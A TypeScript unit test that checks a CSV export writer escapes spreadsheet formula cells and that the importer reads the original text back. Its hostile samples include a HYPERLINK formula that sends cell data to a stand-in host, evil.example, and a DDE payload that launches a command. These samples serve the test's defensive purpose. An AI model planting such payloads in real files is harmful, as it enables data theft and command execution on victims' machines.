import { createReadStream } from "node:fs";
import { mkdtemp, readFile, rm } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, describe, expect, it } from "vitest";
import { readRecords } from "@/lib/imports/readers";
import type { ExportRow } from "../row";
import { csvWriter } from "./csv";

const dir = await mkdtemp(path.join(os.tmpdir(), "af-export-csv-"));
afterAll(() => rm(dir, { recursive: true, force: true }));

const row = (overrides: Partial<ExportRow>): ExportRow => ({
  transcript_id: 1,
  pair_id: 1,
  query_id: 1,
  sample_index: 0,
  split: "train",
  dataset: "d",
  setting: "helpful-only",
  variation: "default",
  model: "m",
  condition: "training",
  query: "q",
  scratchpad_text: "s",
  final_output: null,
  consensus_label: "undecided",
  consensus_method: "undecided",
  agreement: null,
  consensus: {},
  schema_version: null,
  annotations: [],
  imported_labels: null,
  messages: "[]",
  ...overrides,
});

describe("the export's CSV", () => {
  it("defuses formula cells from model text and imported names, and the importer reads back the very text", async () => {
    const file = path.join(dir, "train.csv");
    const writer = csvWriter(file);
    const hostile = {
      query: '=HYPERLINK("http://evil.example?d="&A1,"Details")',
      scratchpad_text: "-1+1, then I comply.\r\nSecond line",
      final_output: "@SUM(1+1)*cmd|' /C calc'!A0",
      variation: "+variation",
    };
    await writer.write(row(hostile));
    await writer.write(row({ transcript_id: 2, final_output: "'already quoted" }));
    await writer.close();

    const text = await readFile(file, "utf8");
    const [header, first, second] = parse(text) as string[][];
    const cell = (record: string[], name: string) => record[header.indexOf(name)];
    for (const [name, value] of Object.entries(hostile)) expect(cell(first, name), name).toBe(`'${value}`);
    expect(cell(second, "final_output")).toBe("''already quoted");

    const read: Record<string, unknown>[] = [];
    for await (const item of readRecords(createReadStream(file), "csv", { maxRecordBytes: 1 << 20, isRecordField: () => true })) {
      if ("record" in item) read.push(item.record);
    }
    expect(read[0]).toMatchObject(hostile);
    expect(read[1]).toMatchObject({ final_output: "'already quoted" });
  });
});
